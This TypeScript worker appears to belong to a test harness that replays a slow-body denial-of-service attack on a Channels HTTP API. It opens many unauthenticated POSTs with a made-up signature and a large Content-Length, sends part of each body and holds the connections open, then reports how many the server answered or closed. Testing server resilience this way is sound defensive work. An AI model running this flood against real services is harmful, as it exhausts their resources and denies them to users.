// Slow-body load process: many unauthenticated POSTs to the Channels HTTP API, each sending part of a
// large body and then stalling, as the attack did (4,000 of them, ~200 KB each, held open).
import { connect, type Socket } from "node:net";
import type { SlowBodyHolding, SlowBodyStart, Stop } from "./protocol.ts";

const sockets: Socket[] = [];
const answered: Record<string, number> = {};
let closedByServer = 0;
let stopping = false;

function openOne(start: SlowBodyStart, chunk: Buffer): Promise<boolean> {
  const { target } = start;
  const now = Math.floor(Date.now() / 1000);
  // Looks like a signed request; the signature is made up (the attacker has no secret).
  const query = `auth_key=${target.key}&auth_timestamp=${now}&auth_version=1.0&body_md5=${"0".repeat(32)}&auth_signature=${"ab".repeat(32)}`;
  const head =
    `POST /apps/${target.appId}/events?${query} HTTP/1.1\r\nHost: ${target.host}:${target.port}\r\n` +
    `Content-Type: application/json\r\nContent-Length: ${start.contentLength}\r\n\r\n`;
  return new Promise((resolve) => {
    const socket = connect(target.port, target.host);
    let seen = false;
    socket.on("data", (data: Buffer) => {
      if (seen) return;
      seen = true;
      const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString("latin1"))?.[1] ?? "?";
      answered[status] = (answered[status] ?? 0) + 1;
    });
    socket.on("close", () => {
      if (!stopping) closedByServer += 1;
    });
    socket.on("error", () => resolve(false));
    socket.once("connect", () => {
      sockets.push(socket);
      socket.write(head);
      // Resolve once the kernel took the bytes, or the server stopped reading them.
      if (socket.write(chunk)) resolve(true);
      else {
        const timer = setTimeout(() => resolve(true), 2000);
        socket.once("drain", () => {
          clearTimeout(timer);
          resolve(true);
        });
      }
    });
  });
}

async function run(start: SlowBodyStart): Promise<void> {
  const chunk = Buffer.alloc(start.sendBytes, "x");
  let next = 0;
  let opened = 0;
  let failed = 0;
  const lane = async () => {
    while (next < start.count) {
      next += 1;
      if (await openOne(start, chunk)) opened += 1;
      else failed += 1;
    }
  };
  await Promise.all(Array.from({ length: start.concurrency }, lane));
  const holding: SlowBodyHolding = { type: "holding", opened, failed, answered, closedByServer };
  process.send?.(holding);
}

process.on("message", (message: SlowBodyStart | Stop) => {
  if (message.type === "start") void run(message);
  else {
    // The final counts (answers and server closes that came in while holding), then let go.
    const final: SlowBodyHolding = { type: "holding", opened: sockets.length, failed: 0, answered, closedByServer };
    process.send?.(final);
    stopping = true;
    for (const socket of sockets) socket.destroy();
    setTimeout(() => process.exit(0), 100);
  }
});
